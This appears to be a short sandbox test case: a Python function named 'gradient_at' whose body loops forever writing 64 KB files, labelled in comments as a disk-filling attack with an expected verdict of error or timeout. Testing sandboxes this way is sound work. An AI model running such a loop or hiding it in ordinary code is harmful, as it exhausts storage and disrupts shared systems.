# attack: fill the disk with many files
# verdict: error, timeout, failed
def gradient_at(x, y):
    number = 0
    while True:
        number += 1
        with open(f"f{number}", "wb") as file:
            file.write(bytes(1 << 16))
